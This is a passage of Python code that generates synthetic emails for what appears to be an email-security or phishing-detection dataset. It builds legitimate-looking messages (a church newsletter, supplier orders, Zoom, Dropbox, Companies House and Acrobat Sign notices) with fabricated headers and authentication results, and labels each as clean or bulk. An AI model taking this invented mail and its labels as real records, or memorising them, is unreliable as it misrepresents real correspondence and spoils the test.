<tr><td style="padding:16px 28px;font-size:12px;line-height:18px;color:#7a6e60;text-align:center;border-top:1px solid #e8e0d2">
Grace Fellowship Church &middot; 1450 Lewisburg Pike &middot; Franklin, TN 37064<br>
<a href="{trk('l3')}" style="color:#7a6e60">Website</a> &middot; <a href="{trk('l4')}" style="color:#7a6e60">Facebook</a><br><br>
You are receiving this email because you signed up for updates from Grace Fellowship Church.<br>
<a href="https://gracefellowshipfranklin.us21.list-manage.com/profile?u={u}&amp;id={lid}&amp;e={e}&amp;c={cid}" style="color:#7a6e60">Update your preferences</a> or <a href="https://gracefellowshipfranklin.us21.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;t=b&amp;e={e}&amp;c={cid}" style="color:#7a6e60">unsubscribe</a><br><br>
<a href="http://eepurl.com/{r.mixed('ee', 6)}" title="Mailchimp - email marketing made easy and fun"><img src="https://cdn-images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.png" width="139" alt="Intuit Mailchimp"></a></td></tr>
</table></td></tr></table></center>
<img src="https://gracefellowshipfranklin.us21.list-manage.com/track/open.php?u={u}&amp;id={cid}&amp;e={e}" height="1" width="1" alt=""></body></html>
"""
    lines, helo, ip, _uid, dc = mailchimp_lines(r, t, "gracefellowshipfranklin.org")
    lines[2] = lines[2].replace("{rcpt}", rcpt)
    body = Multi("alternative", f"_----------={r.hex('mcb', 24)}", [text(strip_tags(html)), text(html, "html")])
    headers = [f"Subject: This Week at Grace: Advent begins Sunday", "From: Grace Fellowship Church <office@gracefellowshipfranklin.org>",
               "Reply-To: Grace Fellowship Church <office@gracefellowshipfranklin.org>", f"To: <{rcpt}>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               f"Message-ID: <{r.hex('m', 19)}.{r.hex('m2', 10)}.{t:%Y%m%d%H%M%S}.{r.hex('m3', 10)}.{r.num('m4', 1000000, 9999999)}@{helo}>",
               f"X-Mailer: Mailchimp Mailer - **CID{cid}{r.hex('cid2', 10)}**", f"X-Campaign: mailchimp{u}.{cid}",
               f"X-campaignid: mailchimp{u}.{cid}", f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={e}",
               f"X-MC-User: {u}", f"Feedback-ID: {r.num('fb1', 10**7, 10**8 - 1)}:{r.num('fb2', 10**7, 10**8 - 1)}.{r.num('fb3', 10**5, 10**6 - 1)}:{dc}:mc",
               f"List-ID: {u}mc list <{u}.{r.num('lid2', 100000, 999999)}.list-id.mcsv.net>", "X-Accounttype: pd",
               f"List-Unsubscribe: <https://gracefellowshipfranklin.us21.list-manage.com/unsubscribe?u={u}&id={lid}&t=b&e={e}&c={cid}>, <mailto:unsubscribe-mc.{dc}_{u}.{cid}-{e}@unsubscribe.mailchimpapp.net>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "MIME-Version: 1.0"]
    headers = [h for h in headers if h]
    a = AU(f"bounce-mc.{dc}_{r.num('mcb1', 10**7, 10**8 - 1)}.{r.num('mcb2', 10**5, 10**6 - 1)}-{rcpt.replace('@', '=')}@{helo}", ip, "pass",
           [("gracefellowshipfranklin.org", "k2", "pass"), ("mcdlv.net", "k3", "pass")], "pass", "p=NONE sp=NONE dis=NONE",
           from_dom="gracefellowshipfranklin.org")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body)
    return done("bulk", kind, slug,
                "The church's own weekly Mailchimp newsletter (custom-domain DKIM plus mcdlv.net, DMARC pass) with list-manage.com "
                "tracking links, List-Unsubscribe and a reminder that the pastor never asks for gift cards.",
                data)


@sample
def legit_henry_schein_order():
    kind, slug = "bulk", "dental-supply-order-confirmation-brightwater"
    r = S(kind, slug)
    c = CLIENTS["brightwater"]
    t = T(2025, 1, 15, 15, 48, 26)
    rcpt = "tjennings@brightwaterdental.com"
    order = f"W{r.num('ord', 10**8, 10**9 - 1)}"
    items = [("1127463", "Criterion Nitrile Exam Gloves, Medium, 200/bx", 10, 11.49),
             ("1013226", "NUPRO Prophy Paste, Mint, Medium, 200/bx", 2, 54.99),
             ("9003447", "Cavicide Surface Disinfectant, 24 oz", 6, 14.29),
             ("1049922", "Henry Schein Saliva Ejectors, Clear/Blue, 100/bg", 5, 6.89),
             ("5708251", "Septocaine 4% w/Epi 1:100,000, 50/bx", 1, 92.50)]
    rows = "".join(f'<tr><td style="padding:6px;border-bottom:1px solid #e5e5e5">{sku}</td><td style="padding:6px;border-bottom:1px solid #e5e5e5">{desc}</td>'
                   f'<td align="center" style="padding:6px;border-bottom:1px solid #e5e5e5">{q}</td><td align="right" style="padding:6px;border-bottom:1px solid #e5e5e5">${q * p:,.2f}</td></tr>'
                   for sku, desc, q, p in items)
    total = sum(q * p for _, _, q, p in items)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center" style="padding:20px 0">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333">
<tr><td style="padding:18px 24px;border-bottom:3px solid #0055a5"><img src="https://www.henryschein.com/us-en/images/Global/HS_Logo_Dental.png" width="190" alt="Henry Schein Dental"></td></tr>
<tr><td style="padding:20px 24px 6px 24px;font-size:18px;font-weight:bold">Thank you for your order</td></tr>
<tr><td style="padding:6px 24px">Order number: <b>{order}</b><br>Account: 1184472 &middot; Brightwater Family Dental<br>Placed by: Tamara Jennings on {t.astimezone(ZoneInfo('America/New_York')):%m/%d/%Y %I:%M %p} ET<br>Ship to: 7208 Six Forks Rd, Suite 110, Raleigh, NC 27615<br>Shipping: Ground (est. delivery 01/17/2025)</td></tr>
<tr><td style="padding:14px 24px"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:12px"><tr style="background:#eef3f9"><th align="left" style="padding:6px">Item #</th><th align="left" style="padding:6px">Description</th><th style="padding:6px">Qty</th><th align="right" style="padding:6px">Ext. Price</th></tr>{rows}
<tr><td colspan="3" align="right" style="padding:8px 6px"><b>Order total</b></td><td align="right" style="padding:8px 6px"><b>${total:,.2f}</b></td></tr></table></td></tr>
<tr><td style="padding:8px 24px 16px 24px">Track your order anytime in <a href="https://www.henryschein.com/us-en/Profiles/OrderHistory.aspx?orderid={order}" style="color:#0055a5">Order History</a>. Questions? Call Customer Service at 1-800-372-4346.</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888;border-top:1px solid #e5e5e5">Henry Schein, Inc., 135 Duryea Road, Melville, NY 11747. This is a transactional email about your order.</td></tr>
</table></td></tr></table></body></html>
"""
    lines, helo, ip, msgid, after, pref = ses_lines(r, t, [("henryschein.com", r.alnum('sel', 32))])
    body = Multi("alternative", f"----=_Part_{r.num('p', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    headers = ["From: Henry Schein Dental <orderconfirmation@henryschein.com>", f"To: {rcpt}",
               f"Subject: Henry Schein Order Confirmation - {order}", "MIME-Version: 1.0", f"Message-ID: {msgid}",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"] + after
    a = AU(f"{pref}-{r.guid('rp')}-000000@amazonses.com", ip, "pass",
           [("henryschein.com", "sel", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass",
           "p=QUARANTINE sp=QUARANTINE dis=NONE", from_dom="henryschein.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, lines, headers, body)
    return done("bulk", kind, slug,
                "Order confirmation from the practice's dental supplier (Henry Schein via Amazon SES, DMARC pass) listing gloves, "
                "prophy paste and anaesthetic with an Order History link on henryschein.com.",
                data)


@sample
def legit_m365_message_center():
    kind, slug = "bulk", "microsoft-365-message-center-digest-bramley"
    r = S(kind, slug)
    c = CLIENTS["bramley"]
    t = T(2025, 6, 2, 3, 12, 55)
    rcpt = "steve.bramley@bramleybuild.co.uk"
    mcs = [("MC1089446", "Microsoft Teams: New Calendar app replacing the existing Teams calendar", "Plan for change", "Jul 14, 2025"),
           ("MC1091201", "Outlook: Retirement of the 'Send on behalf' legacy delegate permissions UI", "Stay informed", "Aug 2025"),
           ("MC1092875", "Exchange Online: Enforcing TLS 1.2 for SMTP AUTH client submission", "Admin impact", "Jun 30, 2025"),
           ("MC1093340", "SharePoint Online: Anyone links default expiry set to 30 days for new tenants", "Stay informed", "Jul 2025")]
    rows = "".join(f'<tr><td style="padding:10px 0;border-bottom:1px solid #edebe9"><a href="https://admin.microsoft.com/AdminPortal/home?#/MessageCenter/:/messages/{mc}" style="color:#0078d4;font-size:15px;text-decoration:none">{title}</a><br>'
                   f'<span style="font-size:12px;color:#605e5c">{mc} &middot; {tag} &middot; Act by: {when}</span></td></tr>' for mc, title, tag, when in mcs)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#f3f2f1">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f3f2f1"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Segoe UI',Tahoma,Arial,sans-serif;color:#323130">
<tr><td style="padding:20px 28px"><img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b" width="108" alt="Microsoft"></td></tr>
<tr><td style="padding:0 28px;font-size:24px;font-weight:600">Message center weekly digest</td></tr>
<tr><td style="padding:8px 28px;font-size:14px;color:#605e5c">Organisation: Bramley Build Ltd &middot; Week of 26 May 2025</td></tr>
<tr><td style="padding:12px 28px"><table width="100%" cellpadding="0" cellspacing="0">{rows}</table></td></tr>
<tr><td style="padding:16px 28px"><a href="https://admin.microsoft.com/AdminPortal/home?#/MessageCenter" style="background:#0078d4;color:#ffffff;text-decoration:none;padding:8px 20px;font-size:14px;font-weight:600">View all messages</a></td></tr>
<tr><td style="padding:20px 28px;font-size:11px;color:#605e5c;line-height:16px">You're receiving this email because you chose to get a weekly digest of Message center posts in the Microsoft 365 admin center. To change your preferences, go to Message center &gt; Preferences.<br><br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", oboundary(r, "alt"), [text(strip_tags(html)), text(html, "html")])
    transport, fields, helo, ip, msgid = exo_sender(r, t, "microsoft.com", "nam", False, "microsoft.com", "s1024-meo",
                                                    arc_results="spf=pass smtp.mailfrom=microsoft.com; dmarc=pass action=none header.from=microsoft.com; dkim=pass header.d=microsoft.com; arc=none")
    transport = transport[:4] + [fold(f"Received: from {exo_hosts(r, 'nam', 'o365mc')['mbx']} ({exo_hosts(r, 'nam', 'o365mc')['mbx_ip']}) by {exo_hosts(r, 'nam', 'snd')['mbx']} with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exo_build(t)}; {xdate(t)}", 77)]
    headers = ["From: Microsoft 365 Message center <o365mc@microsoft.com>", f"To: <{rcpt}>",
               "Subject: Message center weekly digest - Bramley Build Ltd", f"Date: {xdate(t)}", f"Message-ID: {msgid}",
               "MIME-Version: 1.0",
               "Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All"]
    headers = [h for h in headers if h]
    a = AU("o365mc@microsoft.com", ip, "pass", [("microsoft.com", "s1024-meo", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE",
           from_dom="microsoft.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, transport, headers, body, ctry="US", verdict=dict(bcl=1))
    return done("bulk", kind, slug,
                "Genuine Microsoft 365 Message center weekly digest from o365mc@microsoft.com (DMARC reject passes) to the tenant "
                "admin, listing MC posts with admin.microsoft.com links.",
                data)


@sample
def legit_zoom_recording():
    kind, slug = "bulk", "zoom-cloud-recording-available-tallgrass"
    r = S(kind, slug)
    c = CLIENTS["tallgrass"]
    t = T(2025, 4, 9, 21, 4, 18)
    rcpt = "cnolan@tallgrassdigital.com"
    share = f"https://us06web.zoom.us/rec/share/{r.b64url('share', 60)}.{r.b64url('share2', 12)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#f7f9fa">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f7f9fa"><tr><td align="center" style="padding:24px">
<table width="580" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:Lato,Helvetica,Arial,sans-serif;color:#232333">
<tr><td style="padding:24px 32px 8px 32px"><img src="https://st1.zoom.us/static/6.3.24883/image/new/ZoomLogo_110_25.png" width="110" alt="Zoom"></td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:22px">Hi Chris Nolan,<br><br>Your cloud recording is now available.</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:22px"><b>Topic:</b> Hill Country CU - Q2 paid social review<br><b>Date:</b> Apr 9, 2025 02:30 PM Central Time (US and Canada)</td></tr>
<tr><td style="padding:12px 32px;font-size:14px;line-height:22px">Share recording with viewers:<br><a href="{share}" style="color:#0e71eb;word-break:break-all">{share}</a><br>Passcode: {r.alnum('pc', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{r.num('pcn', 10, 99)}!{r.alnum('pc2', 2, 'abcdefghijkmnpqrstuvwxyz')}</td></tr>
<tr><td style="padding:16px 32px"><a href="https://zoom.us/recording/management/detail?meeting_id={r.b64url('mid2', 16)}%3D%3D" style="background:#0e71eb;color:#ffffff;text-decoration:none;padding:10px 22px;border-radius:8px;font-size:14px">View recording</a></td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#747487;line-height:18px">Thank you for choosing Zoom.<br>-The Zoom Team<br><br>+1.888.799.9666<br>&copy;2025 Zoom Communications, Inc. 55 Almaden Blvd, San Jose, CA 95113<br>
<a href="https://zoom.us/profile/setting?tab=recording" style="color:#747487">Manage notification settings</a></td></tr>
</table></td></tr></table></body></html>
"""
    lines, helo, ip, msgid = sendgrid_lines(r, t, "zoom.us", "s1")
    body = Multi("alternative", r.hex("sgb", 60), [text(strip_tags(html)), text(html, "html")])
    headers = [f"Date: {format_datetime(t.astimezone(UTC))[:-6]} +0000 (UTC)", "From: Zoom <no-reply@zoom.us>", "Mime-Version: 1.0",
               f"Message-ID: {msgid}", "Subject: Cloud Recording - Hill Country CU - Q2 paid social review is now available",
               f"X-Feedback-ID: {r.num('fb', 1000000, 9999999)}:SG", f"To: {rcpt}", "X-Zm-Email-Type: recording_completed"] + sendgrid_after(r)
    a = AU(f"bounces+{r.num('bn', 1000000, 9999999)}-{r.hex('bh', 4)}-cnolan=tallgrassdigital.com@sendgrid.zoom.us", ip, "pass",
           [("zoom.us", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE", from_dom="zoom.us")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body, verdict=dict(bcl=1))
    return done("bulk", kind, slug,
                "Zoom 'cloud recording is now available' notice from zoom.us via SendGrid (DMARC reject passes) with the us06web "
                "share link and passcode for a client meeting the account manager hosted.",
                data)


@sample
def legit_internal_kestrel_rota():
    kind, slug = "legit", "internal-staff-rota-pdf-kestrel"
    r = S(kind, slug)
    c = CLIENTS["kestrel"]
    t = T(2025, 5, 16, 12, 31, 40)
    rcpt = "reception@kestrellanedental.co.uk"
    paras = ["Hi all,", "",
             "Attached is the rota for June including cover for the two bank holidays and Dr McBride's CPD day on the 13th. "
             "Nadia, I've swapped your Thursday late with Holly as agreed.", "",
             "Reminder that the Pennine Dental Lab 'statement' email that went round in March was a phishing email &#8211; their "
             "real statements always come as a PDF attachment from Joanne, never a link. If anything like that comes in again, don't "
             "click, just forward it to me.", "", "Thanks,", "Sunita"]
    sig = gsig("Sunita Kaur", "Practice Manager", "Kestrel Lane Dental Practice", "14 Kestrel Lane, Headingley, Leeds LS6 3DX",
               "0113 278 4410")
    alt_part = gmail_alt(r, paras, sig)
    pdf = text_pdf(["KESTREL LANE DENTAL PRACTICE - STAFF ROTA JUNE 2025", "",
                    "Mon 2   Dr McBride / Dr Hussain | Nurses: Nadia, Holly | Reception: Claire (AM), Jo (PM)",
                    "Tue 3   Dr McBride / Dr Hussain | Nurses: Holly, Priya | Reception: Jo",
                    "...", "Fri 13  Dr Hussain only (FM CPD) | Nurses: Nadia | Reception: Claire",
                    "...", "Emergency cover phone: weekend of 28/29 - Dr Hussain"],
                   "Rota June 2025", "Google Docs Renderer", date="D:20250516122805+01'00'")
    body = Multi("mixed", gboundary(r, "mx"), [alt_part, attachment("application/pdf", "Rota June 2025.pdf", pdf)])
    data = send_gmail(r, c, rcpt, t, "sunita.kaur@kestrellanedental.co.uk", "Sunita Kaur <sunita.kaur@kestrellanedental.co.uk>",
                      "Reception <reception@kestrellanedental.co.uk>", "June rota + reminder", body, "Europe/London",
                      policy="p=QUARANTINE sp=QUARANTINE dis=NONE", cc="Nadia Rahman <nadia.rahman@kestrellanedental.co.uk>, Holly Fraser <holly.fraser@kestrellanedental.co.uk>",
                      ctry="GB")
    return done("clean", kind, slug,
                "Internal Google Workspace mail from the practice manager to reception with the June rota PDF and a reminder "
                "about the earlier fake lab statement; same-domain DKIM and DMARC pass.",
                data)


@sample
def legit_dropbox_client_assets():
    kind, slug = "bulk", "dropbox-share-client-brand-assets-foxglove"
    r = S(kind, slug)
    c = CLIENTS["foxglove"]
    t = T(2025, 3, 12, 10, 24, 51)
    rcpt = "callum.reid@foxglovecreative.co.uk"
    link = f"https://www.dropbox.com/l/scl/AAC{r.b64url('l', 36)}"
    note = ("Hi Callum &#8211; here are the bottle shots, the new copper logo lockups and the brand guidelines PDF for the spring campaign. "
            "The hi-res TIFFs are in the /print folder. Shout if anything's missing! Hannah")
    html = dropbox_html(r, "Hannah Price", "hannah@peakdistrictdistillery.co.uk", "Spring 2025 - Brand Assets", note, link, "folder")
    data = dropbox_send(r, c, rcpt, t, "Hannah Price", "hannah@peakdistrictdistillery.co.uk", "Spring 2025 - Brand Assets", html,
                        "Hannah Price shared \"Spring 2025 - Brand Assets\" with you")
    return done("bulk", kind, slug,
                "Real Dropbox folder share (dropbox.com, DMARC reject passes) from the agency's distillery client with brand "
                "assets for a campaign; same template and link style as the compromised-account share.",
                data)


@sample
def legit_companies_house_notify():
    kind, slug = "bulk", "companies-house-reminder-gov-notify-tillbrook"
    r = S(kind, slug)
    c = CLIENTS["tillbrook"]
    t = T(2025, 5, 31, 6, 0, 12)
    rcpt = "info@tillbrookaccountants.co.uk"
    body_txt = ("Company name: PELL JOINERY LIMITED\nCompany number: 11894027\n\n"
                "The confirmation statement for this company is due by 28 June 2025.\n\n"
                "You must check and confirm the company information we hold at least once every 12 months. You need to file within 14 "
                "days of the confirmation date.\n\n"
                "You can file the confirmation statement online. It costs £50. You'll need the company authentication code.\n\n"
                "https://find-and-update.company-information.service.gov.uk/company/11894027\n\n"
                "If you've already filed, you do not need to do anything.\n\n"
                "You're getting this email because you signed up for email reminders for this company.\n\n"
                "Companies House\nhttps://www.gov.uk/government/organisations/companies-house\n")
    paras = "".join(f'<p style="Margin: 0 0 20px 0; font-size: 19px; line-height: 25px; color: #0B0C0C;">{p.replace(chr(10), "<br>")}</p>'
                    for p in body_txt.strip().split("\n\n"))
    paras = paras.replace("https://find-and-update.company-information.service.gov.uk/company/11894027",
                          '<a style="word-wrap: break-word; color: #1D70B8;" href="https://find-and-update.company-information.service.gov.uk/company/11894027">https://find-and-update.company-information.service.gov.uk/company/11894027</a>')
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"><meta content="telephone=no" name="format-detection"></head>
<body style="font-family: Helvetica, Arial, sans-serif;font-size: 16px;margin: 0;color:#0b0c0c;">
<span style="display: none;font-size: 1px;color: #fff; max-height: 0;">Company name: PELL JOINERY LIMITED Company number: 11894027</span>
<table role="presentation" width="100%" style="border-collapse: collapse;min-width: 100%;width: 100% !important;" cellpadding="0" cellspacing="0" border="0"><tr><td width="100%" height="53" bgcolor="#0b0c0c">
<table role="presentation" width="100%" style="border-collapse: collapse;max-width: 580px;" cellpadding="0" cellspacing="0" border="0" align="center"><tr><td width="70" bgcolor="#0b0c0c" valign="middle"><a href="https://www.gov.uk" title="Go to the GOV.UK homepage" style="text-decoration: none;">
<span style="font-family: Helvetica, Arial, sans-serif; font-size: 28px; line-height: 1.315789474; font-weight: 700; color: #ffffff;">GOV.UK</span></a></td></tr></table></td></tr></table>
<table role="presentation" class="content" align="center" cellpadding="0" cellspacing="0" border="0" style="border-collapse: collapse;max-width: 580px; width: 100% !important;" width="100%"><tr><td width="10" height="10" valign="middle"></td><td>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="border-collapse: collapse;"><tr><td bgcolor="#1D70B8" width="100%" height="10"></td></tr></table></td><td width="10" valign="middle" height="10"></td></tr></table>
<table role="presentation" class="content" align="center" cellpadding="0" cellspacing="0" border="0" style="border-collapse: collapse;max-width: 580px; width: 100% !important;" width="100%"><tr><td width="10" valign="middle"><br></td>
<td style="font-family: Helvetica, Arial, sans-serif; font-size: 19px; line-height: 1.315789474; max-width: 560px;">{paras}</td><td width="10" valign="middle"><br></td></tr></table></body></html>
"""
    lines, helo, ip, msgid, after, pref = ses_lines(r, t, [("notifications.service.gov.uk", r.alnum("sel", 32))], "eu-west-1")
    body = Multi("alternative", f"==============={r.num('bd', 10**18, 10**19 - 1)}==", [text(body_txt), text(html, "html")])
    headers = [f"Subject: Confirmation statement due - PELL JOINERY LIMITED",
               "From: Companies House <companies.house@notifications.service.gov.uk>",
               "Reply-To: enquiries@companieshouse.gov.uk", f"To: {rcpt}", "MIME-Version: 1.0",
               f"Message-ID: {msgid}", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"] + after
    a = AU(f"{pref}-{r.guid('rp')}-000000@eu-west-1.amazonses.com", ip, "pass",
           [("notifications.service.gov.uk", "sel", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="notifications.service.gov.uk")
    data = deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, lines, headers, body)
    return done("bulk", kind, slug,
                "Real Companies House email reminder sent through GOV.UK Notify (notifications.service.gov.uk via SES, DMARC "
                "reject passes) to the accountants for a client company, linking to the official service.gov.uk register.",
                data)


@sample
def legit_acrobat_sign_funder():
    kind, slug = "bulk", "acrobat-sign-grant-agreement-funder-riverbend"
    r = S(kind, slug)
    c = CLIENTS["riverbend"]
    t = T(2025, 9, 23, 17, 36, 20)
    rcpt = "evasquez@riverbendliteracy.org"
    pid = f"CBFCIBAA3AAABLblqZhD{r.b64url('pid', 60)}"
    link = f"https://secure.na1.adobesign.com/public/apiesign?pid={pid}&amp;client_id=CBJCHBCAABAA{r.b64url('cid', 24)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f5f5f5"><tr><td align="center" style="padding:24px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:adobe-clean,'Helvetica Neue',Arial,sans-serif;color:#2c2c2c">
<tr><td style="padding:20px 32px"><img src="https://secure.na1.adobesign.com/images/email/adobe_acrobat_sign_logo.png" width="160" alt="Adobe Acrobat Sign"></td></tr>
<tr><td style="padding:8px 32px;font-size:18px;line-height:26px">Portland Community Impact Fund requests your signature on<br><b>FY26 Grant Agreement - Riverbend Literacy Alliance - PCIF-2026-0147</b></td></tr>
<tr><td style="padding:16px 32px;font-size:14px;line-height:21px;color:#4b4b4b">Elena, congratulations again on the award. Please review the attached grant agreement (two-year general operating support, $60,000/year) and sign by October 10. Payment schedule and reporting dates are in Section 4. Reach me at 503-224-7102 with any questions. &#8211; Denise Ortiz, Program Officer</td></tr>
<tr><td style="padding:12px 32px 28px 32px"><a href="{link}" style="background:#1473e6;color:#ffffff;text-decoration:none;padding:10px 26px;border-radius:16px;font-size:15px;font-weight:bold">Review and sign</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6e6e6e;line-height:16px;border-top:1px solid #e1e1e1">After you sign Grant Agreement PCIF-2026-0147, the agreement will be sent to Portland Community Impact Fund. Then, all parties will receive a final PDF copy by email.<br><br>
Don't forward this email: If you don't want to sign, you can <a href="https://secure.na1.adobesign.com/public/delegate?pid={pid}" style="color:#1473e6">delegate</a> to someone else.<br><br>
By proceeding, you agree that this agreement may be signed using electronic or handwritten signatures.<br><br>
To ensure that you continue receiving our emails, please add adobesign@adobesign.com to your address book or safe list.<br>&copy; 2025 Adobe. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 1000000, 9999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"130.248.{r.num('c3', 100, 130)}.{r.num('c4', 10, 250)}"
    helo = f"mail-na1{r.num('mh', 1, 9)}.adobesign.com"
    sender = [dkim(r, "adobesign.com", "sign2023", "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type", t, "generic"),
              f"Received: from na1prd-app{r.num('app', 10, 99)}.echosign.internal (na1prd-app{r.num('app', 10, 99)}.echosign.internal [10.{r.num('x', 10, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} (Postfix) with ESMTP id 4{r.alnum('q', 10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(UTC))}"]
    headers = [f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')} (UTC)",
               "From: \"Portland Community Impact Fund via Adobe Acrobat Sign\" <adobesign@adobesign.com>",
               "Reply-To: Denise Ortiz <dortiz@pdxcommunityimpact.org>", f"To: Elena Vasquez <{rcpt}>",
               f"Message-ID: <{r.num('m', 10**8, 10**9 - 1)}.{r.num('m2', 10**6, 10**7 - 1)}.{int(t.timestamp() * 1000)}@na1prd-app{r.num('app', 10, 99)}.echosign.internal>",
               "Subject: Signature requested on \"FY26 Grant Agreement - Riverbend Literacy Alliance - PCIF-2026-0147\"",
               "MIME-Version: 1.0", "X-Adobe-Sign-Event: AGREEMENT_ACTION_REQUESTED"]
    a = AU(f"bounce-{r.hex('b', 16)}@adobesign.com", ip, "pass", [("adobesign.com", "sign2023", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="adobesign.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, verdict=dict(bcl=1), ptr=helo)
    return done("bulk", kind, slug,
                "Genuine Adobe Acrobat Sign request from adobesign.com (DMARC reject passes) sent by a community foundation's "
                "program officer for a grant agreement, with a secure.na1.adobesign.com link and her phone number.",
                data)


@sample
def legit_virtru_referral():
    kind, slug = "legit", "virtru-secure-referral-oral-surgeon-brightwater"
    r = S(kind, slug)
    c = CLIENTS["brightwater"]
    t = T(2024, 8, 14, 19, 9, 31)
    rcpt = "frontdesk@brightwaterdental.com"
    pol = r.guid("policy")
    link = f"https://secure.virtru.com/secure-reader?policyUuid={pol}&amp;templateUuid={r.guid('tpl')}&amp;dk={r.b64url('dk', 24)}"
    html = f"""<div dir="ltr"><div style="font-family:arial,sans-serif;font-size:14px;color:#222">
<table cellpadding="0" cellspacing="0" style="border:1px solid #d8dde3;border-radius:6px;max-width:520px"><tr><td style="padding:20px 24px">
<div style="font-size:13px;color:#5b6b7b">Secured by <b style="color:#2b5ce6">Virtru</b></div>
<div style="font-size:18px;padding:12px 0 6px 0">Dr. Anjali Rao has sent you a secure message.</div>
<div style="font-size:13px;color:#5b6b7b;padding-bottom:16px">Subject: Referral follow-up: J. Whitaker (DOB 03/1987) - #17 extraction complete</div>
<a href="{link}" style="background:#2b5ce6;color:#ffffff;text-decoration:none;padding:10px 22px;border-radius:4px;font-size:14px">Unlock Message</a>
<div style="font-size:12px;color:#5b6b7b;padding-top:16px">You'll verify your email address to read it. Virtru doesn't store your message content &#8211; it's encrypted end to end.</div>
</td></tr></table>
<div style="font-size:12px;color:#888;padding-top:12px">Triangle Oral &amp; Maxillofacial Surgery &middot; 3100 Blue Ridge Rd, Suite 200, Raleigh, NC 27612 &middot; (919) 781-6600</div>
</div></div>
"""
    plain = (f"Dr. Anjali Rao has sent you a secure message.\n\nSubject: Referral follow-up: J. Whitaker (DOB 03/1987) - #17 extraction complete\n\n"
             f"Unlock Message: {link.replace('&amp;', '&')}\n\nSecured by Virtru. You'll verify your email address to read it.\n")
    body = Multi("alternative", gboundary(r, "b"), [text(plain), text(html, "html")])
    data = send_gmail(r, c, rcpt, t, "arao@triangleoms.com", "\"Dr. Anjali Rao\" <arao@triangleoms.com>",
                      "Brightwater Family Dental <frontdesk@brightwaterdental.com>",
                      "Secure: Referral follow-up: J. Whitaker - #17 extraction complete", body, "America/New_York",
                      policy="p=QUARANTINE sp=QUARANTINE dis=NONE",
                      extra=[f"X-Virtru-Policy-Uuid: {pol}", "X-Virtru-Version: gmail-chrome-ext/7.112.0"])
    return done("clean", kind, slug,
                "Virtru-encrypted referral follow-up from the practice's referring oral surgeon, sent from her own Google "
                "Workspace mailbox (DMARC pass) with the standard 'Unlock Message' link to secure.virtru.com.",
                data)


@sample
